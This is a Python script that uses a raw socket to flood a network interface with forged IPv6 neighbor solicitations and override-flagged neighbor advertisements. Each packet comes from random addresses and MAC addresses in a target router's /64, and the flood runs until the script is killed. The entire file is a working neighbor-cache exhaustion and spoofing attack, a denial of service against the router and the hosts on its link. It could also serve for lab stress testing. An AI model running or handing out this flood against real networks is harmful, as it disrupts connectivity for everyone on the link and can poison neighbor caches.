#!/usr/bin/env python3
"""Sends neighbor solicitations and advertisements of made-up neighbors until it is killed: made_up.py INTERFACE ROUTER

The neighbors have random addresses of the router's /64, and solicit the router."""

import ipaddress
import random
import socket
import struct
import sys
import time

interface, router = sys.argv[1], ipaddress.IPv6Address(sys.argv[2])
sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sender.bind((interface, 0))
network = router.packed[:8]
group = bytes.fromhex("ff0200000000000000000001ff") + router.packed[13:]
everybody = bytes.fromhex("ff020000000000000000000000000001")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def frame(source, mac, to, message):
    """Returns a frame with this ICMPv6 message. Fills in the message's checksum, its third and fourth byte."""
    pseudo = source + to + struct.pack("!II", len(message), 58)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    header = struct.pack("!IHBB", 6 << 28, len(message), 58, 255) + source + to
    return b"\x33\x33" + to[12:] + mac + b"\x86\xdd" + header + message


while True:
    for _ in range(50):
        source, mac = network + random.randbytes(8), b"\x02" + random.randbytes(5)
        solicitation = struct.pack("!BBHI", 135, 0, 0, 0) + router.packed + b"\x01\x01" + mac
        sender.send(frame(source, mac, group, solicitation))
        # Unsolicited, with the override flag.
        advertisement = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + source + b"\x02\x01" + mac
        sender.send(frame(source, mac, everybody, advertisement))
    time.sleep(0.005)
